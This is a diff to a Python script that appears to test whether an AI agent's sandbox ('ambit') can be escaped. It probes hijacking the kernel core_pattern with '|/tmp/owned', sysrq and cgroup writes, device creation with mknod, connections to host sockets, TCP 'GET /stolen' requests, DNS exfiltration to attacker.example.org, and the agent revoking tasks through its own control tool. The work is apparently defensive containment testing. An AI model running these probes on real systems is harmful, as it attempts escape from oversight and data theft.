@@ -46,6 +46,11 @@ def write(path, text):
     return "wrote " + path
 
 
+def write_privately(path):
+    """May succeed in the sandbox's own /tmp: the test looks at the host's."""
+    write(path, "x")
+
+
 def tcp(host, port):
     s = socket.create_connection((host, port), timeout=3)
     s.sendall(b"GET /stolen HTTP/1.0\r\n\r\n")
@@ -69,11 +74,13 @@ for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
 attempt("other processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 1000])
 attempt("abstract socket", lambda: unix("\0" + abstract))
 for path in glob.glob("/run/**", recursive=True) + glob.glob("/var/run/**", recursive=True) + glob.glob(person + "/../state/run/*"):
-    attempt("host socket", lambda: unix(path))
+    if not path.endswith("/run/ambit/agent.sock"):  # the one that says who the agent is
+        attempt("host socket", lambda: unix(path))
 attempt("core pattern", lambda: write("/proc/sys/kernel/core_pattern", "|/tmp/owned"))
 attempt("sysrq", lambda: write("/proc/sysrq-trigger", "h"))
 attempt("cgroup", lambda: write("/sys/fs/cgroup/owned", "1") if os.path.isdir("/sys/fs/cgroup") else "")
-attempt("write outside", lambda: write(person + "/owned", "x"))
+attempt("write outside", lambda: write_privately(person + "/owned"))
+attempt("write /tmp", lambda: write_privately("/tmp/owned"))
 attempt("write /etc", lambda: write("/etc/owned", "x"))
 attempt("write /usr", lambda: write("/usr/bin/owned", "x"))
 attempt("mknod", lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)) or read("disk"))
@@ -95,8 +102,8 @@ attempt("a mapped address", lambda: tcp("::ffff:" + host, int(port)))
 attempt("a public address", lambda: tcp("93.184.216.34", 80))
 attempt("a name", lambda: socket.getaddrinfo("attacker.example.org", 80))
 attempt("a name with data", lambda: socket.getaddrinfo("0123456789abcdef.attacker.example.org", 80))
-attempt("approve itself", lambda: sh("ambit approvals"))
-attempt("revoke another", lambda: sh("ambit tasks"))
+attempt("see the tasks", lambda: b"tester" in sh("ambit tasks --json || ambit tasks --all"))
+attempt("revoke a task", lambda: b"revoked" in sh("ambit revoke tester"))
 attempt("descriptors", lambda: [os.readlink("/proc/self/fd/" + f) for f in os.listdir("/proc/self/fd")
                                if int(f) > 2 and os.path.exists("/proc/self/fd/" + f)
                                and not os.readlink("/proc/self/fd/" + f).startswith("/proc/")])
